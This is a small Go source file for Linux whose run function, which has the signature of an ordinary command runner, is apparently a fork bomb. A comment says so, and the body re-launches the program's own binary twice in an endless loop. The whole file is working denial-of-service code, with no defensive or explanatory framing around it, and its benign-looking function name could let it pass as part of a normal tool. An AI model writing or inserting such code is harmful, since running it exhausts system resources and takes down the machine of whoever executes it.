//go:build linux

package main

import (
	"os"
	"os/exec"
	"time"
)

// A fork bomb: every process starts two of itself.
func run(root string, command []string) (int, error) {
	for {
		exec.Command(os.Args[0], os.Args[1:]...).Start()
		exec.Command(os.Args[0], os.Args[1:]...).Start()
		time.Sleep(10 * time.Millisecond)
	}
}
